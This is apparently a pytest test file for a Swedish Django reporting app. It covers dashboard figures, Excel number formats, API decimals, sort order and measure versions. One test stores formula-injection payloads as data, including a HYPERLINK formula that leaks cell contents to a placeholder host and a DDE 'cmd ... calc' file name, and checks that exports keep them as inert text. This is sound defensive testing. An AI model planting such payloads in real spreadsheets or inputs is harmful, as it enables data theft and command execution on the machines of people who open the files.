"""Figures a user is shown: the presenters, the pages, their Excel exports and the API agree,
with the labels, formats and sort order issue 8 asks for."""

import io
import re
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from lagesbild.calc.periods import Period
from lagesbild.catalogue.models import Measure
from lagesbild.core.actor import Actor
from lagesbild.measurements import annotations, presenters, services
from lagesbild.measurements.models import Target
from tests.measurements.conftest import csv
from tests.measurements.test_api import api_for

pytestmark = pytest.mark.django_db
NB = "\u00a0"
INJECTION = '=HYPERLINK("http://x?m="&A1,"Öppna")'


def text(r) -> str:
    return re.sub(r"[ \t\r\n]+", " ", r.content.decode("utf-8"))


@pytest.fixture
def data(tree, share, region_admin):
    actor = Actor.cli(region_admin)
    services.import_observations(csv("t-andel;T-AVD1;2025-01;;;1;2;", "t-andel;T-AVD2;2025-01;;;90;100;",
                                     "t-andel;T-AVD3;2025-02;;;12345;20000;"), "obs.csv", actor=actor)
    services.import_observations(csv("t-andel;SE;2025;;;47;100;"), "riket.csv", actor=actor, reference=True)
    Target.objects.create(measure=share, org_unit=tree["region"], comparator=">=", value=Decimal("80"))
    return tree


def workbook(response, data_only=False):
    assert response.status_code == 200, response.content[:300]
    return openpyxl.load_workbook(io.BytesIO(response.content), data_only=data_only)


def cells_of(ws, title):
    (row,) = [r for r in ws.iter_rows() if r[0].value == title]
    return row


def test_the_national_rollup_says_what_it_covers(client, data, national_user):
    """Issue 8, item 3: a roll-up names its coverage; the published figure is 'Riket (publicerat)'."""
    client.force_login(national_user)
    page = text(client.get(reverse("measurements:dashboard", args=["SE"]) + "?period=2025"))
    assert "1 av 21 regioner har data" in page
    region = text(client.get(reverse("measurements:dashboard", args=["08"]) + "?period=2025"))
    assert '<th scope="col" class="num">Riket (publicerat)</th>' in region
    assert '<th scope="col" class="num">Sverige</th>' not in region
    assert "publicerade jämförelsesiffror för 2025, källa: riket.csv" in region
    assert "1 av 2 förvaltningar har data" in region


def test_dashboard_excel_fills_the_comparison_column_and_formats_numbers(client, data, kalmar_user):
    """Issue 8, items 4 and 7: the comparison is filled; locale thousands; targets are numbers."""
    client.force_login(kalmar_user)
    r = client.get(reverse("measurements:dashboard_xlsx", args=["08"]) + "?period=2025")
    ws = workbook(r).active
    header = [c.value for c in next(r for r in ws.iter_rows() if r[0].value == "Mått")]
    assert header[10] == "Jämförelse (Riket (publicerat))"
    cells = cells_of(ws, "Testandel")
    assert cells[10].value == 47.0 and cells[10].data_type == "n"
    assert cells[3].value == 12436 and cells[3].number_format == "#,##0"
    assert cells[5].number_format == "#,##0.0"
    assert cells[6].data_type == "n" and cells[6].value == 80 and cells[6].number_format == '"≥ "#,##0.0'
    cached = cells_of(workbook(r, data_only=True).active, "Testandel")
    assert cached[5].value == 61.9  # 12436 / 20102 = 0,6186


def test_an_index_with_no_decimals_is_formatted_with_none(client, tree, region_admin, kalmar_user):
    """Issue 8, item 7: HSE, an index with 0 decimals, is shown with 0 decimals in Excel."""
    Measure.objects.create(code="t-hse", title="HSE", measure_type="resultat", unit="index", direction="higher",
                           decimals=0)
    services.import_observations(csv("t-hse;T-AVD1;2025-01;;;7300;100;"), "hse.csv", actor=Actor.cli(region_admin))
    client.force_login(kalmar_user)
    ws = workbook(client.get(reverse("measurements:dashboard_xlsx", args=["08"]) + "?period=2025")).active
    assert cells_of(ws, "HSE")[5].number_format == "#,##0"
    series = workbook(client.get(reverse("measurements:measure", args=["08", "t-hse"]) + "?period=2025&format=xlsx"))
    values = [r[3] for r in series["Tidsserie"].iter_rows() if r[0].value == "jan 2025"]
    assert values[0].number_format == "#,##0"


def test_values_api_writes_plain_decimals(tree, share, region_admin, kalmar_user):
    """Issue 8, item 5: '>= 80', never '> 8E+1'."""
    services.import_observations(csv("t-andel;T-AVD1;2025-01;;;1;2;"), "a.csv", actor=Actor.cli(region_admin))
    Target.objects.create(measure=share, org_unit=tree["region"], comparator=">", value=Decimal("80.000"))
    Target.objects.create(measure=share, org_unit=tree["hsf"], comparator="<", value=Decimal("2.500"))
    api = api_for(kalmar_user)
    (region,) = api.get("/api/v1/values/", {"unit": "08", "period": "2025", "measure": "t-andel"}).json()
    (hsf,) = api.get("/api/v1/values/", {"unit": "T-HSF", "period": "2025", "measure": "t-andel"}).json()
    assert (region["target"], region["value"]) == ("> 80", "50.0")
    assert hsf["target"] == "< 2.5"


def test_measures_without_a_focus_area_sort_last_on_every_database(client, tree, share, kalmar_user):
    """Issue 8, item 8."""
    from lagesbild.catalogue.models import FocusArea

    fa = FocusArea.objects.order_by("number").first()
    Measure.objects.create(code="a-med-fokus", title="Med fokus", measure_type="process", unit="percent",
                           direction="higher", focus_area=fa)
    d = presenters.dashboard(tree["region"], Period.parse("2025"))
    codes = [r.measure.code for r in d.rows]
    assert codes.index("a-med-fokus") < codes.index("t-andel")
    assert all(r.measure.focus_area is None for r in d.rows[codes.index("t-andel"):])


def _injected(tree, region_admin):
    m = Measure.objects.create(code="t-inj", title=INJECTION, measure_type="process", unit="percent",
                               direction="higher")
    services.import_observations(csv("t-inj;T-AVD1;2025-01;;;1;2;"), "=cmd|' /C calc'!A0.csv",
                                 actor=Actor.cli(region_admin))
    return m


def _assert_no_live_formula_but_ours(wb):
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    if c.data_type == "f":
                        assert c.value.startswith("=IF(OR("), c.value  # our own rate formula
                    else:
                        assert c.data_type == "s"
                        found += 1
    return found


def test_a_formula_in_a_title_or_file_name_stays_text_in_every_export(client, tree, region_admin, kalmar_user):
    """Issue 8, item 19."""
    _injected(tree, region_admin)
    client.force_login(kalmar_user)
    dash = workbook(client.get(reverse("measurements:dashboard_xlsx", args=["08"]) + "?period=2025"))
    assert cells_of(dash.active, INJECTION)[0].data_type == "s"
    assert _assert_no_live_formula_but_ours(dash) >= 1
    page = workbook(client.get(reverse("measurements:measure", args=["08", "t-inj"]) + "?period=2025&format=xlsx"))
    assert page["Tidsserie"]["A1"].data_type == "s" and page["Tidsserie"]["A1"].value.startswith(INJECTION)
    assert _assert_no_live_formula_but_ours(page) >= 2  # the title and the import's file name


def test_tables_writes_every_supplied_text_as_a_string():
    from lagesbild.reports import tables

    cols = [tables.Column("=A1", width=10), tables.Column("Antal", "int")]
    data = tables.write_workbook([tables.Sheet("=S", "+cmd", cols, [["@SUM(A1)", 3], ["-1+2", "=1+1"]],
                                               notes=["=2*3"])])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    texts = [c for row in ws.iter_rows() for c in row if c.value is not None and not isinstance(c.value, int)]
    assert {c.value for c in texts} == {"+cmd", "=2*3", "=A1", "Antal", "@SUM(A1)", "-1+2", "=1+1"}
    assert all(c.data_type == "s" for c in texts)


def test_page_export_and_api_read_the_same_presenter(client, data, kalmar_user):
    client.force_login(kalmar_user)
    d = presenters.dashboard(data["region"], Period.parse("2025"))
    (row,) = [r for r in d.rows if r.measure.code == "t-andel"]
    assert row.value.text in text(client.get(reverse("measurements:dashboard", args=["08"]) + "?period=2025"))
    api = api_for(kalmar_user).get("/api/v1/values/", {"unit": "08", "period": "2025", "measure": "t-andel"}).json()
    assert Decimal(api[0]["value"]) == row.value.value
    cached = cells_of(workbook(client.get(reverse("measurements:dashboard_xlsx", args=["08"]) + "?period=2025"),
                               data_only=True).active, "Testandel")
    assert Decimal(str(cached[5].value)) == row.value.value


def test_annotations_come_from_registered_providers(data, share, monkeypatch):
    """Layers: measurements asks the providers registered above it (the improvement cycle)."""
    monkeypatch.setattr(annotations, "_providers", [])  # only this test's provider, not the app's
    seen = []

    def provider(measures, unit, period):
        seen.append((tuple(m.code for m in measures), unit.code, period.key))
        return {m.pk: f"notering {m.code}" for m in measures}

    annotations.register(provider)
    try:
        d = presenters.dashboard(data["region"], Period.parse("2025"))
        page = presenters.measure_page(data["region"], share, Period.parse("2025"))
    finally:
        annotations.unregister(provider)
    assert [r.cycle for r in d.rows if r.measure == share] == ["notering t-andel"]
    assert page.improvement == "notering t-andel"
    assert seen[-1] == (("t-andel",), "08", "2025")
    assert presenters.dashboard(data["region"], Period.parse("2025")).rows[0].cycle is None


def test_observations_are_stored_on_the_version_valid_for_their_period(client, tree, region_admin, kalmar_user):
    """Task 4: a 2024 row goes to the 2024 version; the dashboards and the cycle find it there."""
    from lagesbild.catalogue.selectors import version_on
    from lagesbild.measurements import selectors
    from lagesbild.measurements.models import Observation

    common = dict(code="t-vers", measure_type="process", unit="percent", direction="higher")
    v1 = Measure.objects.create(version=1, title="Version 1", valid_to=date(2024, 12, 31), **common)
    v2 = Measure.objects.create(version=2, title="Version 2", valid_from=date(2025, 1, 1), **common)
    services.import_observations(csv("t-vers;T-AVD1;2024-06;;;1;4;", "t-vers;T-AVD1;2025-06;;;3;4;"), "v.csv",
                                 actor=Actor.cli(region_admin))
    assert dict(Observation.objects.values_list("period_start", "measure_id")) == {
        date(2024, 6, 1): v1.pk, date(2025, 6, 1): v2.pk}
    y2024 = Period.parse("2024")
    assert version_on("t-vers", y2024.start) == v1
    assert selectors.value_for(version_on("t-vers", y2024.start), tree["region"], y2024) == Decimal("25.0")
    client.force_login(kalmar_user)
    page = text(client.get(reverse("measurements:measure", args=["08", "t-vers"]) + "?period=2024"))
    assert "Version 1" in page and f"25,0{NB}%" in page
    dash = text(client.get(reverse("measurements:dashboard", args=["08"]) + "?period=2025"))
    assert "Version 2" in dash and "Version 1" not in dash
